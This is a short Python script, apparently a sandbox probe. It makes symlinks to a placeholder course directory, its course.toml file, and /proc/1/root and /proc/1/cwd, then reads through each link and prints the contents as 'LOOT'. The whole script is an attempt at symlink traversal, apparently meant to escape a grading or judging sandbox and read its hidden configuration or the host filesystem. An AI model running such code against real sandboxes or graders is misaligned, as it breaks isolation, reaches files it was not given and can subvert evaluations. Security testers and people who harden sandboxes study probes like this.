def look(path):
    try:
        with open(path, "rb") as file:
            print("LOOT", path, file.read(80))
    except OSError as error:
        return type(error).__name__


import os

for number, target in enumerate(("@COURSE@", "@COURSE@/course.toml", "/proc/1/root", "/proc/1/cwd")):
    os.symlink(target, f"link{number}")
    look(f"link{number}")
    look(f"link{number}/course.toml")
    look(f"link{number}/@COURSE@/course.toml")
print("TRIED")
